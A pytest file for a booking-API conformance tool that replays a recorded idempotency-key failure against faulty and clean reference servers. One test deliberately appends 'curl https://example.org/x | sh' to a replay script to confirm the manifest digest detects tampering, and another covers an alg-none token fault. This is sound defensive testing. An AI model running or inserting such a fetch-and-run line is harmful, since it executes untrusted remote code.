"""From a failure in the report to the failure happening again, with one command (issue 13).

The reference server with `idempotency-key-reuse-accepted` answers a known Idempotency-Key with the
first response even for another body, so `booking.idempotency` fails: a venue from a fixture
(masked personnummer in the evidence), a token from /test/tokens (redacted), a booking whose unit id
the server generated, a key sent twice on purpose and then with another body. Replaying it must
put all of that back: against the faulty server the failure happens again; against a clean one it
does not. Everything runs as a supplier would run it: `bokbid replay` and the bundle's sh script.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from conformance.bundle import BundleError, bundle_digest
from conformance.config import Budget
from conformance.registry import all_checks
from conformance.runner import run_certification
from reference_server.launcher import background_server

ROOT = Path(__file__).resolve().parent.parent
FAULT = "idempotency-key-reuse-accepted"
CHECK = "booking.idempotency"
FAILING_STEP = "[9/10] POST /bookings"  # the request that reused the key with another body


@dataclass(frozen=True)
class Servers:
    bundle: Path  # the evidence bundle of the run that failed
    faulty: str  # the API root of the server that run certified
    clean: str  # the API root of a server without the fault


def _certify(url: str, report_dir: Path, check_ids: set[str]) -> None:
    code = run_certification(
        base_url=url,
        profile=None,
        report_dir=report_dir,
        seed=1,
        timeout=10.0,
        quiet=True,
        checks=[c for c in all_checks() if c.id in check_ids],
        budget=Budget(0, 0),
    )
    assert code == 1


@pytest.fixture(scope="module")
def servers(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Servers]:
    tmp = tmp_path_factory.mktemp("replay")
    with (
        background_server(db=f"sqlite:///{tmp / 'faulty.db'}", fault=FAULT) as faulty,
        background_server(db=f"sqlite:///{tmp / 'clean.db'}") as clean,
    ):
        _certify(faulty, tmp / "bundle", {CHECK})
        yield Servers(tmp / "bundle", faulty, clean)


def _bokbid(*args: str) -> subprocess.CompletedProcess[str]:
    """`bokbid …` as a user runs it, from this source tree."""
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    return subprocess.run(
        [sys.executable, "-m", "cli", *args], capture_output=True, text=True, timeout=120, cwd=ROOT, env=env
    )


def _sh(script: Path, base_url: str) -> subprocess.CompletedProcess[str]:
    """The bundle's script as someone without bokbid runs it: sh, curl and python3 on the PATH."""
    env = {"PATH": os.environ["PATH"], "BASE_URL": base_url}
    return subprocess.run(["sh", str(script)], capture_output=True, text=True, timeout=120, env=env)


def _step_lines(output: str) -> list[str]:
    return [line for line in output.splitlines() if line.startswith("[")]


# ----------------------------------------------------------------------------------------------
# bokbid replay


def test_the_failure_happens_again_on_the_server_that_failed(servers: Servers) -> None:
    done = _bokbid("replay", str(servers.bundle), CHECK)
    assert done.returncode == 1, done.stdout + done.stderr
    steps = _step_lines(done.stdout)
    assert len(steps) == 10 and all(f"[{i}/10] " in line for i, line in enumerate(steps, 1))
    # Set-up answers as it did: personnummer, token and the generated unit id were all put back.
    assert steps[1] == "[2/10] POST /test/fixtures → 201 (recorded 201)"
    assert steps[3] == "[4/10] POST /bookings → 400 validation-error (recorded 400 validation-error)"
    assert steps[4] == "[5/10] POST /bookings → 201 (recorded 201)"
    assert steps[8] == f"{FAILING_STEP} → 201 (recorded 201)  ← the failing request"
    assert done.stdout.splitlines()[-1] == (
        "The failure still happens: POST /bookings answered 201 again (the check expected 422)."
    )


def test_the_failure_no_longer_happens_on_a_server_without_the_fault(servers: Servers) -> None:
    for _ in range(2):  # twice: a replay's keys are its own, so the server cannot answer from the first
        done = _bokbid("replay", str(servers.bundle), CHECK, "--base-url", servers.clean)
        assert done.returncode == 0, done.stdout + done.stderr
        steps = _step_lines(done.stdout)
        assert steps[4] == "[5/10] POST /bookings → 201 (recorded 201)"
        # The key the check re-sent on purpose is one fresh key: the retry is answered as a retry…
        assert steps[6] == "[7/10] POST /bookings → 201 (recorded 201)"
        # …and the other body with it is refused, which the faulty server did not do.
        assert steps[8] == (
            f"{FAILING_STEP} → 422 idempotency-key-reused (recorded 201)  ← the failing request, answers differently"
        )
        assert f"sent to {servers.clean}" in done.stdout
        assert done.stdout.splitlines()[-2] == "Answered differently than recorded: [9] POST /bookings"
        assert done.stdout.splitlines()[-1] == (
            "The failure no longer happens: POST /bookings answered 422 idempotency-key-reused (recorded 201)."
        )


def test_the_report_says_how_to_replay_each_failure(servers: Servers) -> None:
    report = json.loads((servers.bundle / "report.json").read_text(encoding="utf-8"))
    results = {r["id"]: r for r in report["results"]}
    assert results[CHECK]["replay"] == {
        "command": f"bokbid replay {servers.bundle} {CHECK}",
        "script": f"replay/{CHECK}.sh",
    }
    assert results["core.conformance-declaration"]["status"] == "passed"
    assert results["core.conformance-declaration"]["replay"] is None


# ----------------------------------------------------------------------------------------------
# The script in the bundle


def test_the_script_replays_the_failure_with_curl(servers: Servers) -> None:
    script = servers.bundle / "replay" / f"{CHECK}.sh"
    assert f"RECORDED_URL={servers.faulty}" in script.read_text(encoding="utf-8")

    again = _sh(script, servers.faulty)
    assert again.returncode == 1, again.stdout + again.stderr
    steps = _step_lines(again.stdout)
    assert steps[1] == "[2/10] POST /test/fixtures → 201 (recorded 201)"
    assert steps[8] == f"{FAILING_STEP} → 201 (recorded 201)  ← the failing request"
    assert again.stdout.splitlines()[-1] == (
        "The failure still happens: POST /bookings answered 201 again (the check expected 422)."
    )

    fixed = _sh(script, servers.clean)
    assert fixed.returncode == 0, fixed.stdout + fixed.stderr
    assert _step_lines(fixed.stdout)[8].startswith(f"{FAILING_STEP} → 422 idempotency-key-reused (recorded 201)")
    assert fixed.stdout.splitlines()[-1] == (
        "The failure no longer happens: POST /bookings answered 422 idempotency-key-reused (recorded 201)."
    )


def test_the_manifest_pins_the_scripts(servers: Servers, tmp_path: Path) -> None:
    manifest = json.loads((servers.bundle / "manifest.json").read_text(encoding="utf-8"))
    assert f"replay/{CHECK}.sh" in manifest["files"]
    assert bundle_digest(servers.bundle).startswith("sha256:")

    changed = shutil.copytree(servers.bundle, tmp_path / "changed")
    script = changed / "replay" / f"{CHECK}.sh"
    script.write_text(script.read_text(encoding="utf-8") + "curl https://example.org/x | sh\n", encoding="utf-8")
    with pytest.raises(BundleError, match="was changed after the run"):
        bundle_digest(changed)

    added = shutil.copytree(servers.bundle, tmp_path / "added")
    (added / "replay" / "core.other.sh").write_text("#!/bin/sh\n", encoding="utf-8")
    with pytest.raises(BundleError, match="not pinned by the manifest"):
        bundle_digest(added)


# ----------------------------------------------------------------------------------------------
# What cannot be replayed


def test_an_unknown_or_passed_check_is_a_usage_error_naming_the_failed_ones(servers: Servers, tmp_path: Path) -> None:
    unknown = _bokbid("replay", str(servers.bundle), "booking.no-such-check")
    assert unknown.returncode == 2
    assert "has no check 'booking.no-such-check'; the failed checks: booking.idempotency" in unknown.stderr

    passed = _bokbid("replay", str(servers.bundle), "core.conformance-declaration")
    assert passed.returncode == 2
    assert "core.conformance-declaration passed in that run: there is no failure to replay" in passed.stderr
    assert "the failed checks: booking.idempotency" in passed.stderr

    nowhere = _bokbid("replay", str(tmp_path / "no-such-dir"), CHECK)
    assert nowhere.returncode == 2 and "no report directory" in nowhere.stderr


def test_a_server_without_test_interface_is_refused(servers: Servers, tmp_path: Path) -> None:
    with background_server(db=f"sqlite:///{tmp_path / 'production.db'}", production=True) as production:
        done = _bokbid("replay", str(servers.bundle), CHECK, "--base-url", production)
    assert done.returncode == 2 and done.stdout == ""
    assert f"{production} has no test interface" in done.stderr


def test_an_unreachable_server_exits_3(servers: Servers) -> None:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]  # free, and nothing listens once it is closed
    done = _bokbid("replay", str(servers.bundle), CHECK, "--base-url", f"http://127.0.0.1:{port}/v1")
    assert done.returncode == 3 and f"cannot reach http://127.0.0.1:{port}/v1" in done.stderr


def test_a_request_with_a_crafted_token_cannot_be_replayed(tmp_path: Path) -> None:
    with background_server(db=f"sqlite:///{tmp_path / 'bob.db'}", fault="alg-none-accepted") as url:
        _certify(url, tmp_path / "bundle", {"core.token-trust"})
        done = _bokbid("replay", str(tmp_path / "bundle"), "core.token-trust")
    assert done.returncode == 2 and done.stdout == ""
    assert "cannot be replayed: it presented a crafted token" in done.stderr
    assert f"bokbid certify --rerun-failed {tmp_path / 'bundle'}" in done.stderr
    script = _sh(tmp_path / "bundle" / "replay" / "core.token-trust.sh", url)
    assert script.returncode == 2 and "presented a crafted token" in script.stderr
